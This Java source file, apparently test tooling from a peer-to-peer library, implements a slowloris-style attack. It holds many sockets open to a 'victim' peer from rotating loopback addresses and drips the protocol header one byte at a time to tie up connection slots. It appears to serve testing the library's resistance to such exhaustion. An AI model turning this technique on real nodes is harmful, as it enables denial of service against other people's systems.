package network.clawnet.p2p.attack;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Deque;
import java.util.List;
import network.clawnet.p2p.multiaddr.Multiaddr;
import network.clawnet.p2p.transport.tcp.RawPeer;

/** Sockets to a victim whose owner is in no hurry to say who it is. One thread. */
final class HeldSockets implements AutoCloseable {
  private static final byte[] HEADER = "\u0013/multistream/1.0.0\n".getBytes(US_ASCII);
  private static final int ADDRESSES = 200;

  /** A socket and how much was said over it. */
  private static final class Held {
    final Socket socket;
    int said;

    Held(Socket socket) {
      this.socket = socket;
    }
  }

  private final Multiaddr victim;
  private final int limit;
  private final Deque<Held> held = new ArrayDeque<>();
  private int opened;

  /**
   * @param limit sockets held at a time; for one more the oldest is closed
   */
  HeldSockets(Multiaddr victim, int limit) {
    this.victim = victim;
    this.limit = limit;
  }

  /** Opens so many sockets, from addresses in turn. */
  void open(int count) throws IOException {
    for (int i = 0; i < count; i++) {
      byte[] ip = {127, 0, 0, (byte) (1 + opened++ % ADDRESSES)};
      InetSocketAddress from = new InetSocketAddress(InetAddress.getByAddress(ip), 0);
      held.add(new Held(RawPeer.open(victim, from)));
      if (held.size() > limit) {
        drop(held.remove());
      }
    }
  }

  /** Says one more byte over each socket, and opens others in place of those that were closed. */
  void drip() throws IOException {
    List<Held> dead = new ArrayList<>();
    for (Held one : held) {
      try {
        if (one.said < HEADER.length) {
          one.socket.getOutputStream().write(HEADER[one.said++]);
        }
      } catch (IOException e) {
        dead.add(one);
      }
    }
    for (Held one : dead) {
      held.remove(one);
      drop(one);
    }
    open(limit - held.size());
  }

  /** Closes at once and leaves nothing behind in the system. */
  private static void drop(Held one) throws IOException {
    one.socket.setSoLinger(true, 0);
    one.socket.close();
  }

  @Override
  public void close() throws IOException {
    for (Held one : held) {
      drop(one);
    }
    held.clear();
  }
}
